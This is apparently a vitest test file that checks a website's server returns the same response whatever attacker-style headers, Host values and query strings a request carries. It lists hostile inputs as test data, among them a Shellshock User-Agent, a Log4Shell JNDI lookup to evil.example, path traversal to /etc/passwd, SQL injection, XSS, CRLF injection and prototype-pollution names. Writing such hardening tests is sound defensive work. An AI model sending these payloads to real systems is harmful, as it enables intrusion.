import { createHash } from 'node:crypto';
import { readdirSync } from 'node:fs';
import type { Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp } from '../support/app/create-test-app.ts';
import { PAGE_PATHS } from '../support/app/page-paths.ts';
import { exchange, listen, type WireResponse } from '../support/http/raw-connection.ts';

const assets = readdirSync('dist/client/assets');
const asset = (pattern: RegExp) => `/assets/${assets.find((file) => pattern.test(file))}`;

let server: Server;
beforeAll(async () => {
  server = await listen((await createTestApp({ ACCESS_LOG: '0' })).createServer());
});
afterAll(() => server.close());

/** Requests for everything that the site sends, as their first line and the fields they need. */
const TARGETS: [title: string, line: string, fields?: string | undefined][] = [
  ...PAGE_PATHS.map((path): [string, string] => [path, `GET ${path}`]),
  ['the 404 page', 'GET /no-existe'],
  ['a missing asset', 'GET /assets/none.js'],
  ['a redirect', 'GET /pricing/'],
  ['a script', `GET ${asset(/^entry-.*\.js$/)}`],
  ['an image', `GET ${asset(/\.svg$/)}`],
  ['a range', `GET ${asset(/\.woff2$/)}`, 'Range: bytes=0-9\r\n'],
  ...[
    '/index.md',
    '/llms.txt',
    '/robots.txt',
    '/sitemap.xml',
    '/manifest.webmanifest',
    '/.well-known/security.txt',
    '/contact.vcf',
    '/whatsapp.svg',
    '/favicon.ico',
    '/healthz',
    '/readyz',
  ].map((path): [string, string] => [path, `GET ${path}`]),
  ['a page in brotli', 'GET /contact', 'Accept-Encoding: br\r\n'],
  ['a page as Markdown', 'GET /contact', 'Accept: text/markdown\r\n'],
  ['a 304', 'GET /', 'If-None-Match: *\r\n'],
  ['a HEAD', 'HEAD /pricing'],
  ['a malformed path', 'GET /%'],
  ['a method', 'POST /'],
];

/** What clients, proxies and attackers add, and nothing of the site may listen to. */
const FIELDS = [
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-Proto: https',
  'X-Forwarded-For: 127.0.0.1, evil.example',
  'X-Forwarded-Port: 444',
  'X-Forwarded-Prefix: /evil',
  'X-Forwarded-Server: evil.example',
  'X-Forwarded-Scheme: nothttps',
  'X-Host: evil.example',
  'X-Real-IP: 127.0.0.1',
  'True-Client-IP: 127.0.0.1',
  'Forwarded: for=127.0.0.1;host=evil.example;proto=https',
  'X-Original-URL: /gtc',
  'X-Rewrite-URL: /gtc',
  'X-Original-Host: evil.example',
  'X-HTTP-Method-Override: DELETE',
  'X-HTTP-Method: DELETE',
  'X-Method-Override: POST',
  'Accept-Language: en, de;q=0.5',
  `Cookie: cc_cookie=${encodeURIComponent('{"categories":["necessary","analytics"]}')}; session=evil`,
  'Authorization: Basic ZXZpbDpldmls',
  'Origin: https://evil.example',
  'Referer: https://evil.example/pricing',
  'User-Agent: Googlebot/2.1',
  'User-Agent: () { :; }; echo evil',
  'X-Middleware-Subrequest: middleware:middleware:middleware',
  'RSC: 1',
  'Next-Action: 1234567890',
  'Next-Router-State-Tree: evil',
  'rsc-action-id: evil#default',
  'X-Nextjs-Data: 1',
  'Purpose: prefetch',
  'Sec-Purpose: prefetch;prerender',
  'X-Moz: prefetch',
  'Sec-Fetch-Dest: empty',
  'Sec-Fetch-Site: cross-site',
  'Access-Control-Request-Method: DELETE',
  'X-Requested-With: XMLHttpRequest',
  'Pragma: no-cache',
  'X-Request-Id: evil-evil-evil',
  'Content-Type: application/json',
  'TE: trailers',
  'Save-Data: on',
  'DNT: 1',
  '__proto__: evil',
  'constructor: evil',
  'hasOwnProperty: evil',
  'toString: evil',
  'X-Evil: <script>alert(1)</script>',
  "X-Evil: ' OR 1=1 --",
  `X-Evil: \${jndi:ldap://evil.example/a}`,
  'X-Evil: ../../../../etc/passwd',
];

const HOSTS = ['evil.example', 'evil.example:444', 'localhost', '127.0.0.1', '[::1]', ''];

const QUERIES = [
  '?',
  '?utm_source=evil&gclid=evil',
  '?__proto__[evil]=1&constructor[prototype][evil]=1',
  '?_method=DELETE&_data=root&_routes=root&_rsc=1',
  '?url=https://evil.example&next=//evil.example',
  '?<script>alert(1)</script>',
  '?a=%0d%0aSet-Cookie:%20evil=1',
  '?%00%ff%',
];

function write([, line, fields = '']: (typeof TARGETS)[number], host = 'a', more = ''): string {
  return `${line} HTTP/1.1\r\nHost: ${host}\r\n${fields}${more && `${more}\r\n`}\r\n`;
}

/** All that was sent, without the time at which it was; a digest of the body keeps failures short. */
function withoutDate({ statusLine, headers: { date: _, ...headers }, body }: WireResponse) {
  return { statusLine, headers, digest: createHash('sha256').update(body).digest('hex') };
}

describe('the whole response is the same, whatever else the request says, for', () => {
  it.each(TARGETS)('%s', async (...target) => {
    const variants = [
      ...FIELDS.map((field) => write(target, 'a', field)),
      write(target, 'a', FIELDS.join('\r\n')),
      ...HOSTS.map((host) => write(target, host)),
    ];
    await expectSame(write(target), variants);
  });
});

describe('the whole response is the same, whatever its query, for', () => {
  it.each(TARGETS.filter(([title]) => title !== 'a redirect'))(
    '%s',
    async (title, line, fields) => {
      const variants = QUERIES.map((query) => write([title, line + query, fields]));
      await expectSame(write([title, line, fields]), variants);
    },
  );
});

async function expectSame(plain: string, variants: string[]): Promise<void> {
  const [expected] = (await exchange(server, plain)).map(withoutDate);
  for (const variant of variants) {
    expect((await exchange(server, variant)).map(withoutDate), variant).toEqual([expected]);
  }
}

it('takes nothing of a query into a redirect but the query', async () => {
  for (const query of QUERIES) {
    const [response] = await exchange(server, write(['', `GET /pricing/${query}`]));
    expect(response?.headers['location']).toMatch(/^\/pricing\?/);
    expect(response?.headers['set-cookie']).toBeUndefined();
  }
});

it('lives on after names that objects have of their own, repeated', async () => {
  const names = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'];
  for (const name of names) {
    const fields = `${name}: a\r\n${name}: b\r\n${name}: c`;
    const [first] = await exchange(server, write(['', 'GET /'], 'a', fields));
    expect(first?.status, name).toBe(200);
    const path = await exchange(server, write(['', `GET /${name}`]));
    expect(path[0]?.status, name).toBe(404);
  }
  expect((await exchange(server, write(['', 'GET /'])))[0]?.status).toBe(200);
});
